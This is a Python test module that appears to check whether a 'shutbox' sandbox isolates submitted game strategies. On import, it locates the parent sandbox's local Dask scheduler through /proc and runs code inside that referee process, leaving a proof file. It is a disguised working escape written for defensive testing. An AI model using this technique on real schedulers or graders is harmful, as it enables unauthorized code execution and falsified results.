"""Attacks the referee through a local Dask cluster's scheduler (`--scheduler local`, which lives
in the shutbox process): at import, finds the ports the farthest of its ancestors listens on
(its sockets' inodes, from its open files, looked up in /proc/net/tcp), connects a Dask client
to each and asks the scheduler to run code. The code run there leaves a file in the folder
$SHUTBOX_TEST_BREACHED names: the test's proof that a host's code ran in the referee (where it
could as well rewrite the results)."""

import contextlib
import os
import sys
import threading
from pathlib import Path

from strategies import Strategy


def _ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        status = Path(f"/proc/{pid}/status").read_text()
        pid = int(next(line.split()[1] for line in status.splitlines() if line.startswith("PPid:")))


def _listening():
    """The ports on 127.0.0.1 that the farthest of this process's ancestors to listen on any
    listens on (under --scheduler local, the shutbox process: the scheduler's and its web server's)."""
    listeners = {}
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A":  # LISTEN
            listeners[fields[9]] = int(fields[1].split(":")[1], 16)
    found = []
    for pid in _ancestors():
        ports = []
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    link = os.readlink(f"/proc/{pid}/fd/{fd}")
                    if link.startswith("socket:[") and link[8:-1] in listeners:
                        ports.append(listeners[link[8:-1]])
        found = ports or found
    return found


def _in_the_referee(breached):
    """Run in the scheduler's process: the proof."""
    import os

    Path(breached, f"scheduler-{os.getpid()}").touch()
    return os.getpid()


def _try(address, breached):
    from distributed import Client

    with contextlib.suppress(Exception), Client(address, timeout=2, set_as_default=False) as client:
        client.run_on_scheduler(_in_the_referee, breached)


def _attack():
    breached = os.environ.get("SHUTBOX_TEST_BREACHED")
    if not breached:
        return
    import cloudpickle

    cloudpickle.register_pickle_by_value(sys.modules[__name__])  # the scheduler has no copy of this file
    for port in _listening():
        for scheme in ("tcp", "tls"):
            trying = threading.Thread(target=_try, args=(f"{scheme}://127.0.0.1:{port}", breached), daemon=True)
            trying.start()
            trying.join(5)  # a port that is no Dask server's may never answer


_attack()


class Mine(Strategy):
    def choose_move(self, view):
        return view.legal_moves[0]


class Reader(Mine):
    reads_context = True
